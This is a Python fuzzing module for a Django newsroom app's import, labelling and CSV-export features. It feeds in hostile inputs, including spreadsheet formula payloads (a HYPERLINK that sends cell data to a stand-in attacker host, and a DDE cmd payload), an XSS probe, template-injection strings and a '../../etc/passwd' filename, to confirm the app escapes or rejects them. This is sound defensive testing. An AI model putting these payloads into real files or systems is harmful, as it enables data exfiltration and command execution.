"""Hostile values for the training-set import and the label note, and the checks on them.

Shared by bench/fuzz_inputs.py (thousands of cases, printed as a table) and
tests/stance/test_inputs_fuzz.py (a fixed-seed subset in the suite, on SQLite and
PostgreSQL). A case is posted as a browser posts it; the checks are:

- no answer is a server error (5xx) and no request raises;
- a refused import or label says why (a message on the page it lands on);
- what is accepted is stored as sent (a note stripped of outer white space, the TSV whole);
- the CSV export hands a spreadsheet no formula: no cell starts with = + - @ tab or CR.
"""

from __future__ import annotations

import csv
import io
import random
import re
from collections import Counter
from dataclasses import dataclass, field

from newsroom.cleaning import FORMULA_STARTS

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
    "+",
    "@",
]
ODD = [
    "",
    " ",
    "\n\n",
    "'already quoted",
    '"',
    '""quoted""',
    "\\",
    "<script>alert(1)</script>",
    "{{ 7|add:7 }}{% now 'Y' %}",
    "%s%s%n",
    "\u200bOut\u200blet\u202e",
    "\ufeffbom",
    "Ω≈ç√ Выборы 選挙 انتخابات",
    "🗳️👩🏽‍⚖️",
    "line\r\nbreaks\rand\nmore",
    "a\tb\tc",
]
HOSTILE = FORMULAS + ODD
NOTE_MAX = 2000
LABELS = ["news", "opinion", "confirm", "NEWS", "", "news\x00", "maybe", "opinion ", "x" * 300]


def hostile_text(rng: random.Random) -> str:
    """A note-like string: a hostile value, a mix of them, or a long or NUL-laden one."""
    kind = rng.random()
    if kind < 0.45:
        return rng.choice(HOSTILE)
    if kind < 0.7:
        return "".join(rng.choice(HOSTILE) for _ in range(rng.randint(2, 5)))
    if kind < 0.8:
        return rng.choice(FORMULAS) + "x" * rng.choice([NOTE_MAX - 30, NOTE_MAX, NOTE_MAX + 1])
    if kind < 0.9:
        text = rng.choice(HOSTILE) + " words"
        at = rng.randint(0, len(text))
        return text[:at] + "\x00" + text[at:]
    return "".join(
        chr(rng.choice([rng.randint(1, 0x7F), rng.randint(0x80, 0xD7FF)]))
        for _ in range(rng.randint(1, 60))
    )


# --- Training-set import ------------------------------------------------------------------


@dataclass
class ImportCase:
    number: int
    category: str
    name: str
    body: bytes


def _row(rng: random.Random, i: int) -> str:
    text = rng.choice(["The council voted 7-2.", "What a farce.", "Rates rose 4 per cent."])
    if rng.random() < 0.5:
        text = rng.choice(FORMULAS).replace("\t", " ").replace("\r", " ") + " " + text
    return f"{rng.choice(['', '=', '-', '@', '+'])}r{i}\t{text}\t{rng.choice(['news', 'opinion'])}"


def _valid_tsv(rng: random.Random, rows: int) -> str:
    return "id\ttext\tlabel\n" + "\n".join(_row(rng, i) for i in range(rows)) + "\n"


def import_cases(seed: int, count: int, *, cap: int) -> list[ImportCase]:
    """`count` import cases; `cap` is STANCE_TRAINING_SET_MAX_BYTES in force."""
    rng = random.Random(seed)
    makers = [
        ("formula cells", lambda: _valid_tsv(rng, rng.randint(1, 30)).encode()),
        ("nul byte", lambda: _insert(rng, _valid_tsv(rng, 5).encode(), b"\x00")),
        ("long row", lambda: _long_row(rng)),
        ("over the cap", lambda: _over_cap(rng, cap)),
        ("not utf-8", lambda: _insert(rng, _valid_tsv(rng, 5).encode(), _bad_utf8(rng))),
        ("structure", lambda: _structure(rng)),
        ("mutated", lambda: _mutate(rng, _valid_tsv(rng, rng.randint(1, 20)).encode())),
    ]
    cases = []
    for number in range(count):
        category, make = makers[number % len(makers)]
        name = rng.choice(
            [
                "set.tsv",
                "=evil().tsv",
                "../../etc/passwd",
                "n" * 300 + ".tsv",
                "Выборы.tsv",
                "a\u202egpj.tsv",
                'quote".tsv',
            ]
        )
        cases.append(ImportCase(number, category, name, make()))
    return cases


def _insert(rng: random.Random, data: bytes, piece: bytes) -> bytes:
    at = rng.randint(len(b"id\ttext\tlabel\n"), len(data))
    return data[:at] + piece + data[at:]


def _bad_utf8(rng: random.Random) -> bytes:
    return rng.choice([b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\x80\x80"])


def _long_row(rng: random.Random) -> bytes:
    length = rng.choice([19_990, 20_001, 131_073, 300_000])
    quote = rng.choice(["", '"'])  # an unclosed quote is how csv reads one huge field
    return f"id\ttext\tlabel\na\t{quote}{'w' * length}\tnews\n".encode()


def _over_cap(rng: random.Random, cap: int) -> bytes:
    row = "a\tThe council voted 7-2 on Monday.\tnews\n"
    size = cap + rng.choice([1, 1000, cap // 2])
    return ("id\ttext\tlabel\n" + row * (size // len(row) + 1)).encode()


def _structure(rng: random.Random) -> bytes:
    return rng.choice(
        [
            b"",
            b"id\ttext\tlabel\n",
            b"id,text,label\na,b,news\n",
            b"text\tlabel\nx\tnews\n",
            b"id\ttext\tlabel\r\na\tVote.\tnews\r\n",
            b"id\ttext\tlabel\ra\tVote.\tnews\r",
            b"id\ttext\tlabel\na\tVote.\tnews\textra\n",
            b"id\ttext\tlabel\na\t\tnews\n",
            b"id\ttext\tlabel\na\tVote.\tNEWS\n",
            b'id\ttext\tlabel\na\t"the ""quit rate"" fell"\tnews\n',
            b"\xef\xbb\xbfid\ttext\tlabel\na\tVote.\tnews\n",
            b"id\ttext\tlabel\n" + b"\n" * 5000,
            b"\x00" * 64,
            bytes(range(256)),
            b"id\ttext\tlabel\n" + b"r\tx\tnews\n" * 20_000,
        ]
    )


def _mutate(rng: random.Random, data: bytes) -> bytes:
    pieces = [
        b"\t",
        b"\r",
        b"\n",
        b'"',
        b"\x00",
        b"\xff",
        b"=",
        b"\x1c",
        "\u2028".encode(),
        "\u202e".encode(),
    ]
    data = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        at = rng.randint(0, len(data))
        data[at:at] = rng.choice(pieces)
    return bytes(data)


# --- Running the cases ----------------------------------------------------------------------


@dataclass
class Outcome:
    kind: str  # "import", "label" or "review"
    category: str
    status: int
    accepted: bool
    problems: list[tuple[str, str]] = field(default_factory=list)


@dataclass
class Summary:
    outcomes: list[Outcome] = field(default_factory=list)
    export_cells: int = 0
    unescaped_formulas: list[str] = field(default_factory=list)

    def add(self, outcome: Outcome) -> None:
        self.outcomes.append(outcome)

    @property
    def server_errors(self) -> int:
        return sum(1 for o in self.outcomes if o.status >= 500)

    @property
    def problems(self) -> Counter:
        return Counter(kind for o in self.outcomes for kind, _ in o.problems) + Counter(
            {"unescaped formula in the CSV export": len(self.unescaped_formulas)}
        )

    @property
    def failed(self) -> list[Outcome]:
        return [o for o in self.outcomes if o.problems]

    def table(self) -> str:
        rows = Counter((o.kind, o.category) for o in self.outcomes)
        accepted = Counter((o.kind, o.category) for o in self.outcomes if o.accepted)
        errors = Counter((o.kind, o.category) for o in self.outcomes if o.status >= 500)
        bad = Counter((o.kind, o.category) for o in self.outcomes if o.problems)
        lines = [f"{'what':<34}{'cases':>7}{'accepted':>10}{'refused':>9}{'5xx':>6}{'bad':>6}"]
        for key in sorted(rows):
            n = rows[key]
            lines.append(
                f"{key[0] + ': ' + key[1]:<34}{n:>7}{accepted[key]:>10}{n - accepted[key]:>9}"
                f"{errors[key]:>6}{bad[key]:>6}"
            )
        lines.append(
            f"{'all':<34}{len(self.outcomes):>7}{sum(accepted.values()):>10}"
            f"{len(self.outcomes) - sum(accepted.values()):>9}{self.server_errors:>6}"
            f"{len(self.failed):>6}"
        )
        lines.append(
            f"CSV export: {self.export_cells} cells, "
            f"{len(self.unescaped_formulas)} unescaped formulas"
        )
        problems = {k: v for k, v in self.problems.items() if v}
        lines.append(f"problems: {problems or 'none'}")
        return "\n".join(lines)


MESSAGE = re.compile(r'<li class="message message-(?:error|success|warning)">(.*?)</li>', re.S)


class InputsFuzzer:
    """Posts cases through the app as a signed-in data lead (imports) and editor (labels)."""

    def __init__(self, lead_client, editor_client, paragraph_ids: list[int]):
        self.lead = lead_client
        self.editor = editor_client
        self.paragraph_ids = paragraph_ids

    def _post(self, client, url: str, data: dict, **extra):
        """(status, page the answer lands on), counting a raised exception as a 500."""
        try:
            response = client.post(url, data, follow=True, **extra)
        except Exception as error:  # the test client re-raises what the view raised
            return 599, f"{type(error).__name__}: {error}"
        return response.status_code, response.content.decode("utf-8", "replace")

    def run_import(self, case: ImportCase) -> Outcome:
        from django.urls import reverse

        from stance.models import TrainingSet

        before = TrainingSet.objects.count()
        upload = io.BytesIO(case.body)
        upload.name = case.name
        status, page = self._post(self.lead, reverse("training-set-import"), {"tsv": upload})
        stored = list(TrainingSet.objects.order_by("-pk")[: TrainingSet.objects.count() - before])
        outcome = Outcome("import", case.category, status, accepted=bool(stored))
        if status >= 500:
            outcome.problems.append(("server error", page[:300]))
            return outcome
        messages = MESSAGE.findall(page)
        if not messages and status != 413:
            outcome.problems.append(("no message", f"HTTP {status}"))
        for item in stored:
            if item.content.encode() != case.body.removeprefix(b"\xef\xbb\xbf") and (
                item.content.encode() != case.body
            ):
                outcome.problems.append(("stored differs from the file", item.name))
            if "\x00" in item.content or item.rows < 1:
                outcome.problems.append(("accepted a hostile file", item.name))
            item.delete()  # keep every later retrain (and the next case) small
        return outcome

    def run_label(self, rng: random.Random, number: int) -> Outcome:
        from django.urls import reverse

        from stance.models import Label

        paragraph = rng.choice(self.paragraph_ids)
        note, label = hostile_text(rng), rng.choice(LABELS)
        before = Label.objects.count()
        url = reverse("paragraph-label", args=[paragraph])
        status, page = self._post(
            self.editor, url, {"label": label, "note": note}, headers={"HX-Request": "true"}
        )
        new = list(Label.objects.order_by("-pk")[: Label.objects.count() - before])
        category = "note: " + _note_kind(note)
        outcome = Outcome("label", category, status, accepted=bool(new))
        if status >= 500:
            outcome.problems.append(("server error", page[:300]))
        elif not new and 'class="error"' not in page and 'role="alert"' not in page:
            outcome.problems.append(("refused without a message", repr(note[:60])))
        for row in new:
            if row.note != note.strip():
                outcome.problems.append(("note stored differently", repr(note[:60])))
        return outcome

    def run_review(self, rng: random.Random) -> Outcome:
        from django.urls import reverse

        data = {
            "action": rng.choice(["label", "undo", "skip", "reset", "", "x" * 50, "label\x00"]),
            "paragraph": rng.choice(
                [str(rng.choice(self.paragraph_ids)), "", "-1", "0", "9" * 30, "1e3", "abc", "\x00"]
            ),
            "label": rng.choice(LABELS),
            "note": hostile_text(rng),
        }
        status, page = self._post(self.editor, reverse("review-queue"), data)
        outcome = Outcome("review", f"action: {data['action'][:10]!r}", status, accepted=True)
        if status >= 500:
            outcome.problems.append(("server error", page[:300]))
        return outcome

    def check_export(self, summary: Summary) -> None:
        from django.urls import reverse

        response = self.editor.get(reverse("labels-export", args=["csv"]))
        body = b"".join(response.streaming_content).decode()
        for row in csv.reader(io.StringIO(body, newline="")):
            for cell in row:
                summary.export_cells += 1
                if cell.startswith(FORMULA_STARTS):
                    summary.unescaped_formulas.append(cell[:60])


def _note_kind(note: str) -> str:
    if "\x00" in note:
        return "NUL"
    if len(note) > NOTE_MAX:
        return "too long"
    if note.strip().startswith(tuple(f.strip()[:1] for f in FORMULAS if f.strip())):
        return "formula"
    return "other"


# Paragraphs whose own text starts like a formula: the export's text column must escape them.
FORMULA_PARAGRAPHS = "\n\n".join(
    [
        "=SUM(1+1) was written on the council's whiteboard, the clerk said.",
        "+64 9 555 0100 is the number the mayor gave reporters.",
        "-5 degrees was the overnight low at the wharf.",
        "@harbourboard posted the decision at 3pm.",
        "The board voted 7-2 to close the wharf on Monday.",
        "This is frankly the most cynical decision in a generation.",
    ]
)
